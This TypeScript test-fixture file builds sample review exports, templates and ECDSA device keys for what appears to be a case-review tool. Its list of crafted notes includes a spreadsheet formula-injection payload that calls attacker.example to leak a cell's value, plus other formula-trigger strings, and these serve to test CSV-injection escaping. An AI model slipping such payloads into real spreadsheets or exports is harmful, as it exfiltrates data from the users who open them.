import type { TemplateDefinition } from '../../review-template/template-definition';
import type { ReviewState } from '../../sync-protocol/pull';
import type { ExportInput, ExportedOutcome } from '../export-input';

/** For tests: a template with one field of every type, and a label crafted as a formula. */
export const SAMPLE_TEMPLATE: TemplateDefinition = {
  templateId: 'export-test',
  title: 'Export test template',
  fields: [
    { id: 'risk', label: 'Risk level', type: 'single_choice', options: [{ value: 'low', label: 'Low' }, { value: 'high', label: 'High, urgent' }] },
    { id: 'flags', label: 'Flags', type: 'multiple_choice', options: [{ value: 'a', label: 'Alpha' }, { value: 'b', label: 'Beta "quoted"' }] },
    { id: 'victims', label: 'Victims named', type: 'number', integer: true },
    { id: 'reviewed_on', label: 'Reviewed on', type: 'date' },
    { id: 'notes', label: '=Notes', type: 'text' },
  ],
};

/** Free text a reviewer might type, the hostile cells first: each must reach a spreadsheet as text. */
export const CRAFTED_NOTES = [
  '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")',
  '+1',
  '@SUM(1)',
  '-2+3',
  '\tTabbed',
  '\rReturned',
  'Line one\nLine two, with a comma and "quotes"',
  'Zoë — ✓ plain text',
] as const;

export function sampleReview(caseId: string, index: number, overrides: Partial<ReviewState> = {}): ReviewState {
  return {
    caseId,
    version: 2,
    status: 'approved',
    templateId: SAMPLE_TEMPLATE.templateId,
    templateVersion: 3,
    answers: {
      risk: index % 2 === 0 ? 'high' : 'low',
      flags: ['a', 'b'],
      victims: index,
      reviewed_on: '2026-11-0' + ((index % 9) + 1),
      notes: CRAFTED_NOTES[index % CRAFTED_NOTES.length]!,
    },
    reviewerId: 'reviewer-1',
    submittedAt: '2026-11-20T10:00:00.000Z',
    qc: { decision: 'approve', comment: null, leadId: 'lead-1', reviewVersion: 2, decidedAt: '2026-11-21T09:00:00.000Z' },
    ...overrides,
  };
}

export function sampleExportInput(outcomeCount: number = CRAFTED_NOTES.length, overrides: Partial<ExportInput> = {}): ExportInput {
  const outcomes: ExportedOutcome[] = Array.from({ length: outcomeCount }, (_, index) => {
    const caseId = `case-${String(index).padStart(5, '0')}`;
    return { caseId, caseReference: `REF/${String(index).padStart(5, '0')}`, batchId: index % 2 === 0 ? 'batch-a' : 'batch-b', review: sampleReview(caseId, index) };
  });
  return {
    exportId: '0193a5b2-0000-7000-8000-000000000001',
    createdAt: '2026-11-25T18:00:00.000Z',
    lead: { userId: 'lead-1' },
    device: { deviceId: 'device-lead-1', deviceName: 'Lead laptop' },
    recipient: 'DC Example, Investigation Team 4',
    justification: 'Operation Example: outcomes requested for case review under s.62',
    batches: [
      { batchId: 'batch-a', name: 'Borough A, November' },
      { batchId: 'batch-b', name: 'Borough B, November' },
    ],
    template: SAMPLE_TEMPLATE,
    templateVersion: 3,
    qcPolicy: { requireApproval: true, sample: { method: 'percentage', value: 10, seed: 12345, drawnCount: 1 } },
    outcomes,
    ...overrides,
  };
}

/** An ECDSA P-256 pair as enrolment makes it: the private half non-extractable, the public half as the JWK the endpoint stores. */
export async function sampleDeviceKeys() {
  const pair = await globalThis.crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, ['sign', 'verify']);
  const jwk = await globalThis.crypto.subtle.exportKey('jwk', pair.publicKey);
  return { signingKey: pair.privateKey, publicKey: { kty: 'EC' as const, crv: 'P-256' as const, x: jwk.x!, y: jwk.y! } };
}
